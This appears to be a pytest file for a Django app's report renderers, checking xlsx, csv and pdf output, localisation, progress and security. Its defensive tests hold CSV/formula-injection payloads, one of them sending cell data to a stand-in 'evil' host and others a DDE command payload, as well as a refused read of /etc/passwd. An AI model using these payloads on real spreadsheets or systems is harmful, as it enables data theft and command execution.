"""Renderers: open what they produce (openpyxl, pypdf, csv) and check what a reader would see."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook
from pypdf import PdfReader

from reporting.document import build_document
from reporting.renderers import get_renderer
from reporting.renderers import pdf as pdf_renderer
from tests.reporting.factories import expense_row, expense_totals

pytestmark = pytest.mark.django_db


def render(report, user, fmt, *, rows, language="it", progress=None):
    with translation.override(language):
        params = report.clean_params({"rows": rows})
        document = build_document(report=report, user=user, params=params, rows_total=rows)
        buffer = io.BytesIO()
        written = get_renderer(fmt).write(document, buffer, progress=progress)
    assert written == rows
    buffer.seek(0)
    return buffer


def test_xlsx_has_real_numbers_dates_frozen_header_autofilter_and_totals(expenses_report, official):
    workbook = load_workbook(render(expenses_report, official, "xlsx", rows=120))
    sheet = workbook.active
    assert sheet["A1"].value == "Expense lines of the body-cam pilot"
    assert sheet["A1"].font.bold
    assert sheet["A2"].value.startswith("Generato il ")
    assert official.email in sheet["A2"].value
    assert sheet["A3"].value == "DCR 15 dicembre 2020 n. 89-19389"
    header = 7  # title, stamp, two act references, the "Rows" parameter, a blank row
    assert sheet[f"A{header - 2}"].value == "Rows: 120"
    assert [c.value for c in sheet[header]][:3] == ["Supplier", "VAT number", "Invoice"]
    assert sheet.freeze_panes == f"A{header + 1}"
    assert sheet.auto_filter.ref == f"A{header}:I{header + 120}"

    first = sheet[header + 1]
    expected = expense_row(0)
    assert first[1].value == "10000000000"  # a VAT number stays text, leading digits intact
    assert first[3].value == dt.datetime(2024, 1, 1)  # noqa: DTZ001 (a real date; Excel has no zones)
    assert first[3].number_format == "dd/mm/yyyy"
    assert first[5].value == pytest.approx(float(expected[5]))  # money is a number...
    assert first[5].data_type == "n"
    assert first[5].number_format == "#,##0.00"  # ...shown with two decimals
    assert first[8].value == dt.datetime(2024, 3, 1, 10, 30)  # noqa: DTZ001 (Europe/Rome wall clock)
    assert first[8].number_format == "dd/mm/yyyy hh:mm:ss"

    totals = sheet[header + 121]
    net, vat, gross = expense_totals(120)
    assert totals[0].value == "Totale"
    assert Decimal(str(totals[5].value)) == net
    assert Decimal(str(totals[6].value)) == vat
    assert Decimal(str(totals[7].value)) == gross
    assert totals[7].number_format == "#,##0.00"
    assert totals[7].font.bold
    assert sheet.max_row == header + 121
    assert sheet.column_dimensions["E"].width == 32


def test_xlsx_in_english(expenses_report, official):
    sheet = load_workbook(render(expenses_report, official, "xlsx", rows=2, language="en")).active
    assert sheet["A2"].value.startswith("Generated on ")
    assert sheet["A10"].value == "Total"


def test_csv_is_machine_readable(expenses_report, official):
    text = render(expenses_report, official, "csv", rows=3).getvalue().decode("utf-8")
    assert not text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == [
        "supplier",
        "vat_number",
        "invoice",
        "invoice_date",
        "description",
        "net",
        "vat",
        "total",
        "recorded_at",
    ]
    assert rows[1] == [
        "Fornitore 0 S.r.l.",
        "10000000000",
        "FT-000000",
        "2024-01-01",
        "Body-cam modello X, riga 0",
        "1000.50",
        "220.11",
        "1220.61",
        "2024-03-01T10:30:00+01:00",
    ]
    assert len(rows) == 4  # no totals row: consumers sum the column themselves


def test_progress_is_reported_while_streaming(expenses_report, official, settings):
    settings.EXPORT_PROGRESS_EVERY_ROWS = 100
    seen = []
    render(expenses_report, official, "csv", rows=350, progress=seen.append)
    assert seen[:3] == [100, 200, 300]
    assert seen[-1] == 350


def test_a_pdf_reports_its_layout_page_by_page_so_that_the_bar_moves(expenses_report, official, settings):
    """Reading the rows fills a fifth of the bar; laying the pages out moves it on, page after page."""
    settings.EXPORT_PROGRESS_EVERY_ROWS = 50
    seen = []
    render(
        expenses_report, official, "pdf", rows=300, progress=lambda rows, percent=None: seen.append(percent)
    )
    assert seen == sorted(seen)
    assert any(0 < p <= 20 for p in seen)  # the rows
    layout = [p for p in seen if p > 20]
    assert len(layout) >= 3  # the pages, one step each
    assert max(layout) <= 95


def pdf_text(buffer) -> tuple[list[str], PdfReader]:
    reader = PdfReader(buffer)
    return [page.extract_text() for page in reader.pages], reader


def test_pdf_in_italian_has_heading_title_acts_table_totals_and_page_numbers(expenses_report, official):
    pages, reader = pdf_text(render(expenses_report, official, "pdf", rows=60))
    assert len(pages) >= 2
    first = pages[0]
    assert "Regione Piemonte" in first
    assert "Expense lines of the body-cam pilot" in first
    assert "DCR 15 dicembre 2020 n. 89-19389" in first
    assert "Fornitore 0 S.r.l." in first
    assert "1.000,50" in first  # money in Italian: thousands dot, decimal comma
    assert "01/01/2024" in first
    assert f"pagina 1 di {len(pages)}" in first
    assert f"pagina {len(pages)} di {len(pages)}" in pages[-1]
    assert f"da {official.email}" in first
    assert "Generato il" in pages[-1]
    _net, _vat, gross = expense_totals(60)
    last = pages[-1]
    assert "Totale" in last
    assert f"{gross:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".") in last
    assert "60 righe" in last
    assert reader.metadata.title == "Expense lines of the body-cam pilot"


def test_pdf_in_english(expenses_report, official):
    pages, _ = pdf_text(render(expenses_report, official, "pdf", rows=3, language="en"))
    assert "page 1 of 1" in pages[0]
    assert "1,000.50" in pages[0]
    assert "Generated on" in pages[0]
    assert "Total" in pages[0]


def test_pdf_uses_titillium_from_bootstrap_italia():
    faces = pdf_renderer.font_faces()
    assert faces, "Titillium Web not found through the staticfiles finders"
    assert all(url.startswith("file://") and "Titillium_Web" in url for _w, _s, url in faces)


def test_pdf_never_fetches_anything_but_the_fonts():
    fetcher = pdf_renderer.font_fetcher()
    with pytest.raises(ValueError, match="Refused"):
        fetcher.fetch("file:///etc/passwd")
    with pytest.raises(ValueError, match="Refused"):
        fetcher.fetch("http://example.org/tracker.png")
    url = pdf_renderer.font_faces()[0][2]
    assert fetcher.fetch(url) is not None


def test_page_counter_css_follows_the_language():
    with translation.override("it"):
        assert pdf_renderer.page_counter_content() == '"pagina " counter(page) " di " counter(pages)'
    with translation.override("en"):
        assert pdf_renderer.page_counter_content() == '"page " counter(page) " of " counter(pages)'


def test_xlsx_text_never_becomes_a_formula(official):
    from reporting.registry import Column, Report

    hostile = Report(
        key="tests.hostile",
        title="=Title",
        capability="export",
        columns=(Column("name", "Name"), Column("note", "Note")),
        rows=lambda *, user, params: iter([('=HYPERLINK("http://evil")', "#N/A"), ("bell\x07", "ok")]),
        count=lambda *, user, params: 2,
    )
    document = build_document(report=hostile, user=official, params={})
    buffer = io.BytesIO()
    get_renderer("xlsx").write(document, buffer)
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    assert sheet["A1"].value == "=Title"
    assert sheet["A1"].data_type == "s"
    rows = list(sheet.iter_rows(min_row=5, max_row=6))
    assert rows[0][0].value == '=HYPERLINK("http://evil")'
    assert rows[0][0].data_type == "s"
    assert rows[0][1].data_type == "s"
    assert rows[1][0].value == "bell\ufffd"


# OWASP "CSV injection": what a spreadsheet would run as a formula when the cell starts with it.
HOSTILE_TEXTS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_report():
    from reporting.registry import Column, ColumnType, Report

    return Report(
        key="tests.hostile_csv",
        title="Hostile",
        capability="export",
        columns=(Column("name", "Name"), Column("amount", "Amount", type=ColumnType.MONEY)),
        rows=lambda *, user, params: iter(
            [(text, Decimal("-5.00")) for text in HOSTILE_TEXTS] + [("Mario Rossi", Decimal("1.00"))]
        ),
        count=lambda *, user, params: len(HOSTILE_TEXTS) + 1,
    )


def test_csv_neutralises_formula_injection_in_text_but_keeps_numbers(official):
    document = build_document(report=_hostile_report(), user=official, params={})
    buffer = io.BytesIO()
    get_renderer("csv").write(document, buffer)
    rows = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"))))[1:]
    # Each hostile value is kept whole, behind a single quote: a spreadsheet shows it as text.
    assert [r[0] for r in rows] == [f"'{text}" for text in HOSTILE_TEXTS] + ["Mario Rossi"]
    assert {r[1] for r in rows[:-1]} == {"-5.00"}  # a negative amount is a number, not a formula


def test_xlsx_keeps_every_formula_like_value_as_text(official):
    document = build_document(report=_hostile_report(), user=official, params={})
    buffer = io.BytesIO()
    get_renderer("xlsx").write(document, buffer)
    buffer.seek(0)
    sheet = load_workbook(buffer).active
    header = int(sheet.freeze_panes[1:]) - 1
    cells = [row[0] for row in sheet.iter_rows(min_row=header + 1, max_row=header + len(HOSTILE_TEXTS))]
    # As typed, no quote added (the cell is typed text); XML reads a lone carriage return as a newline.
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE_TEXTS]
    assert {c.data_type for c in cells} == {"s"}
